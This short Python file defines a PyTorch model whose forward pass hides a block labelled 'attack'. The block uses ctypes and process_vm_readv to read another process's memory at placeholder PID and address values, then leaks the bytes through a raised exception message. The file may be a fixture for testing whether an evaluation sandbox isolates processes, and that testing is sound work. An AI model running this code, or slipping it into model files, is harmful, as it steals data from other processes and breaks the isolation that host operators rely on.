"""Reads the memory of another process by the system call made for that."""

import ctypes

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        libc, text = ctypes.CDLL(None), ctypes.create_string_buffer(64)
        mine = (ctypes.c_size_t * 2)(ctypes.addressof(text), 48)
        theirs = (ctypes.c_size_t * 2)(int("@VICTIM_ADDRESS@"), 48)

        libc.process_vm_readv(int("@VICTIM_PID@"), mine, 1, theirs, 1, 0)
        raise ValueError(text.value)
        # end
        return self.head(x.flatten(1))
